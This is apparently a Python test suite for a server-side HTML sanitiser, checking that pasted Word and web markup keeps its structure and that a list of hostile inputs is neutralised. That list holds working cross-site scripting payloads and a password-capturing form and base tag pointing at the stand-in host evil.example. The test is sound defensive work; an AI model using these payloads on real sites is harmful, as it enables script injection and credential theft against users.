"""What editors paste: structure stays, looks go, and nothing that could run survives. The browser's half is in
tests/browser/test_editor_in_browser.py; this is what the server makes of whatever arrives."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles.rendering import structure
from articles.sanitising import ATTRIBUTES, TAGS, TooLong, clean

WORD = """<p class=MsoNormal style='margin:0'><b><span style='font-size:14pt'>Before</span></b><o:p></o:p></p>
<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->
<style>p.MsoNormal {mso-style-parent:""}</style>
<ul type=disc><li class=MsoNormal style='mso-list:l0 level1 lfo1'>One</li><li>Two</li></ul>
<table class=MsoTableGrid border=1><tr><td width=30 style='border:none'><p class=MsoNormal>Cell</p></td></tr></table>"""
WEB = """<div class="entry" id="x" data-id="1"><h1>Big</h1><p style="color:red">Text <a href="https://example.org/?a=1&amp;b=2"
target="_blank" onclick="track()">link</a></p><ol start="3"><li>Third</li></ol><iframe src="//e.com"></iframe></div>"""
# Source text → what must stay, in order.
REAL = {
    "word": (WORD, ["Before", "<ul><li>One</li><li>Two</li></ul>", "Cell"]),
    "web": (WEB, ["Big", "<p>Text <a href=", ">link</a></p>", '<ol start="3"><li>Third</li></ol>']),
}
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action='https://evil.example'><input name=password></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=x'>",
    "<p id=csrfmiddlewaretoken name=x class='callout evil'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<blockquote class='callout' onmouseover=alert(1)>x</blockquote>",
    "<!--><script>alert(1)</script>-->",
    "<p title='words' lang=en>x</p>",
]


def problems(html: str) -> list[str]:
    """Tags and attributes that are not on the allowlist, and addresses of another kind."""
    found = []
    for tag in structure.parse(html).find_all(True):
        allowed = ATTRIBUTES.get(tag.name, set()) | ({"class"} if tag.name in ("p", "blockquote") else set())
        found += [] if tag.name in TAGS else [tag.name]
        found += [f"{tag.name} {name}" for name in tag.attrs if name not in allowed]
        address = str(tag.get("href") or tag.get("src") or "")
        if ":" in address.split("/")[0] and address.split(":")[0].lower() not in ("http", "https", "mailto", "tel"):
            found.append(address)
    return found


@pytest.mark.parametrize("name", REAL)
def test_structure_stays_and_looks_go(name):
    html, kept = REAL[name]
    cleaned = clean(html)
    places = [cleaned.index(piece) for piece in kept]
    assert places == sorted(places) and problems(cleaned) == []
    assert "style" not in cleaned and "mso" not in cleaned.lower()


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_could_run_survives(html):
    cleaned = clean(html)
    assert (problems(cleaned) == [] and "alert(1)" not in cleaned.replace("&lt;", "")) or "<" not in cleaned


pieces = st.sampled_from([*HOSTILE, WORD, WEB, "<", ">", '"', "<p>", "</p>", "<ul><li>", "text", "\x00", "<!--", "-->"])


@given(st.lists(pieces, max_size=8).map("".join))
def test_cleaning_any_mixture_leaves_the_allowlist_and_is_stable(html):
    cleaned = clean(html)
    assert problems(cleaned) == []
    assert clean(cleaned) == cleaned


def test_too_much_is_refused_before_any_work():
    with pytest.raises(TooLong):
        clean("<div>" * 20_000)
